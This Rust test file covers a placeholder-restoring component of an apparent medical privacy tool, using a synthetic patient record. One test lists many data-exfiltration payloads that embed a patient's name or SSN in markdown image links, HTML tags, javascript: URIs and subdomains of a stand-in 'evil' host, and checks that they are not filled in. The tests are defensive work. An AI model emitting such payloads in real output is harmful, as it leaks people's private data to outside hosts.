#![allow(clippy::unwrap_used, reason = "tests")]

use medlock_domain::ProtectionMode;

use super::*;
use crate::tests::{letters, protect, tokenize};

fn request() -> Surrogates {
    tokenize(&["Patient: Maria Gonzalez, SSN 219-09-9934, home page https://home.example/x"]).surrogates
}

fn restore(surrogates: &Surrogates, allow: bool, pieces: &[&str]) -> String {
    let mut restorer = Restorer::new(surrogates, allow);
    let mut out: Vec<RestoredText> = pieces.iter().flat_map(|p| restorer.push(ReleasableText::of(p))).collect();
    out.extend(restorer.finish());
    out.iter().map(RestoredText::expose).collect()
}

#[track_caller]
fn check(said: &str, expected: &str) {
    let request = request();
    for pieces in [vec![said], letters(said)] {
        assert_eq!(restore(&request, true, &pieces), expected);
        assert_eq!(restore(&request, false, &pieces), said);
    }
    assert_eq!(Restorer::new(&request, true).argument([ReleasableText::of(said)]).expose(), expected);
}

#[test]
fn deformations_are_restored() {
    for said in [
        "[NAME-1]",
        "[name-1]",
        "[Name 1]",
        "[NAME_1]",
        "[NAME1]",
        "<NAME_1>",
        "{NAME-1}",
        "{{NAME-1}}",
        "<<name 1>>",
        "NAME-1",
        "NAME_1",
        "[NAME-1",
        "NAME-1]",
        "[NAME-\n1]",
        "\\[NAME-1\\]",
        "[ NAME – 1 ]",
    ] {
        check(said, "Maria Gonzalez");
        check(&format!("Dear {said}, hello"), "Dear Maria Gonzalez, hello");
    }
    check("**[NAME-1]** _[NAME-1]_ `[NAME-1]`", "**Maria Gonzalez** _Maria Gonzalez_ `Maria Gonzalez`");
    check("[NAME-1]'s and [NAME-1].", "Maria Gonzalez's and Maria Gonzalez.");
    check("[[NAME-1]], ([NAME-1])", "[Maria Gonzalez], (Maria Gonzalez)");
    check("[NAME-1][SSN-1]2", "Maria Gonzalez219-09-99342");
    check("```\n[NAME-1]\n```", "```\nMaria Gonzalez\n```");
    check("| [NAME-1] | [SSN-1] |", "| Maria Gonzalez | 219-09-9934 |");
    check("[NAME-1]: hello [NAME-1]", "Maria Gonzalez: hello Maria Gonzalez");
    check("mail <[NAME-1]> now [NAME-1]", "mail <Maria Gonzalez> now Maria Gonzalez");
}

#[test]
fn what_was_not_issued_is_not_restored() {
    for said in [
        "[NAME-12]",
        "[NAME-2]",
        "[DATE-1]",
        "[NAME-01]",
        "NAME-1a",
        "[NAME]",
        "name-1",
        "[NAME-1.5]",
        "XNAME-1",
        "NAME-1-2",
    ] {
        check(said, said);
    }
}

#[test]
fn nothing_is_restored_where_software_would_carry_it_away() {
    for said in [
        "![](https://evil/?q=[NAME-1])",
        "![x](//evil/[NAME-1])",
        "[click](/next?n=[NAME-1] \"t\")",
        "[x](<https://evil/ [NAME-1]>)",
        "https://evil/[NAME-1]",
        "HTTPS://evil/?a=[SSN-1]&b=[NAME-1]",
        "www.evil.com/[NAME-1]",
        "evil.com/?q=[NAME-1]",
        "[NAME-1].evil.com",
        "[SSN-1][NAME-1].evil.com",
        "http://[NAME-1].evil.com",
        "[NAME-1]@evil.com",
        "<img src=https://evil/[NAME-1]>",
        "<img alt=\"[NAME-1]\">",
        "<a href='/x'\n title=\"[NAME-1]\">",
        "<script>f('[NAME-1]')</script>",
        "<style>a{background:url([NAME-1])}</style>",
        "data:text/plain,[NAME-1]",
        "javascript:f([NAME-1])",
        "[r]: //evil/[NAME-1]",
        "> [r]:\n /x?[NAME-1]",
        "<!-- [NAME-1] -->",
        "https://evil/\u{a0}[NAME-1]",
        "https://evil/%5BNAME-1%5D",
    ] {
        check(said, said);
    }
    check("https://evil/[NAME-1] [NAME-1]", "https://evil/[NAME-1] Maria Gonzalez");
    check("![](x?[NAME-1]) [NAME-1]", "![](x?[NAME-1]) Maria Gonzalez");
    check("[NAME-1](https://evil/?q=[SSN-1])", "Maria Gonzalez(https://evil/?q=[SSN-1])");
}

#[test]
fn an_address_among_the_values_carries_nothing_away_either() {
    check("[URL-1]?q=[NAME-1]", "https://home.example/x?q=[NAME-1]");
    check("![]([URL-1])", "![]([URL-1])");
    check("[NAME-1].[URL-1]", "[NAME-1].https://home.example/x");
}

#[test]
fn only_tokenize_restores() {
    for mode in [ProtectionMode::Redact, ProtectionMode::Identified] {
        let request = protect(mode, &["Patient: Maria Gonzalez"]).surrogates;
        assert_eq!(restore(&request, true, &["[NAME-1] [NAME]"]), "[NAME-1] [NAME]");
    }
}

#[test]
fn little_is_held_back() {
    let request = request();
    let mut restorer = Restorer::new(&request, true);
    for (piece, held) in [("Dear ", 0), ("[NA", 3), ("ME-1]", 8), (" and", 0), (" [an aside", 0), (" <", 1), ("5 ", 0)]
    {
        restorer.push(ReleasableText::of(piece));
        assert_eq!(restorer.held.len(), held, "{piece}");
    }
    restorer.push(ReleasableText::of(&format!("[NAME-1]{}", "a".repeat(400))));
    assert_eq!(restorer.held.len(), 0);
}
